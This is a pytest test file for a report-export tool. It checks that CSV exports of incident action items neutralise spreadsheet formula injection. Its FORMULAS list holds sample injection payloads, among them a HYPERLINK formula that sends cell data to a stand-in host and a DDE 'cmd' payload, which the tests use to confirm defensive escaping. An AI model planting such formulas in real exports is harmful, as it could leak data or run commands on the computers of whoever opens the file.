"""Tables, CSV and JSON of the cross-incident reports (`exports`).

"Today" is 2026-11-27 throughout.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from coe.cli import main
from coe.corpus import load_corpus
from coe.exports import export_csv, export_json, table

from .conftest import MINIMAL_COE, ROOT, coe_in, write_coe

TODAY = date(2026, 11, 27)


@pytest.fixture(scope="module")
def coes():
    return list(load_corpus(ROOT / "coes", root=ROOT).coes)


def run(*args: str, env: dict[str, str | None] | None = None):
    env = {"SOURCE_DATE_EPOCH": None, **(env or {})}
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)


# --- formats ---------------------------------------------------------------------------


def test_table_aligns_by_display_width() -> None:
    lines = table(["TEAM", "N", "NOTE"], [["网络", "1", "x"], ["search", "22", "yy"]], right={1})
    assert lines == ["TEAM     N  NOTE", "网络     1  x", "search  22  yy"]


def test_export_is_the_same_for_the_same_input(coes) -> None:
    first = export_json(coes, TODAY)
    assert export_json(list(coes), TODAY) == first
    assert export_csv(coes, TODAY) == export_csv(list(coes), TODAY)
    assert json.loads(first)["generated"] == "2026-11-27"


# --- CSV opened in a spreadsheet: no author text runs as a formula -------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\tlooks=1", "\r=1", "'quoted", "''=1"]


def read_cell(cell: str) -> str:
    """What a spreadsheet shows: a leading apostrophe marks text and is not shown."""
    return cell[1:] if cell.startswith("'") else cell


def action_coe(title: str, owner: str, team: str) -> str:
    def q(text: str) -> str:
        return json.dumps(text, ensure_ascii=False)

    return MINIMAL_COE + (
        f"action_items:\n  - {{id: AI-1, title: {q(title)}, owner: {q(owner)}, team: {q(team)}, "
        "priority: high, due: 2025-11-20, status: open}\n")


def exported_rows(tmp_path: Path, title: str, owner: str, team: str) -> list[dict[str, str]]:
    write_coe(tmp_path / "coes", action_coe(title, owner, team))
    coes = list(load_corpus(tmp_path / "coes", root=tmp_path).coes)
    return list(csv.DictReader(io.StringIO(export_csv(coes, TODAY))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_author_text_is_text_in_every_csv(tmp_path: Path, formula: str) -> None:
    [row] = exported_rows(tmp_path, formula, formula, formula)
    for field in ("title", "owner", "team"):
        assert row[field] == "'" + formula  # neutralised: a spreadsheet shows it as text
        assert read_cell(row[field]) == formula
    assert row["coe_severity"] == "3" and row["days_overdue"] == "372"  # numbers stay numbers
    result = run("actions", "--today", "2026-11-27", "--format", "csv", "--coes",
                 str(tmp_path / "coes"))
    [listed] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert listed["title"] == listed["owner"] == listed["team"] == "'" + formula


@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1))
def test_any_cell_reads_back_as_written_and_never_starts_a_formula(text: str) -> None:
    from coe.exports import to_csv

    written = to_csv(["a", "n"], [{"a": text, "n": -3}])
    [row] = list(csv.DictReader(io.StringIO(written, newline="")))
    assert read_cell(row["a"]) == text
    assert not row["a"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["n"] == "-3"  # a real number, negative, is left as it is


def test_the_sites_csv_is_neutralised(tmp_path: Path) -> None:
    import shutil

    shutil.copy(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
    (tmp_path / "docs").mkdir()
    write_coe(tmp_path / "coes", action_coe(FORMULAS[0], FORMULAS[1], "ops"))
    assert coe_in(tmp_path, "build", "--today", "2026-11-27").exit_code == 0
    [row] = list(csv.DictReader(io.StringIO((tmp_path / "site/action-items.csv").read_text(encoding="utf-8"))))
    assert (row["title"], row["owner"], row["team"]) == ("'" + FORMULAS[0], "'" + FORMULAS[1], "ops")
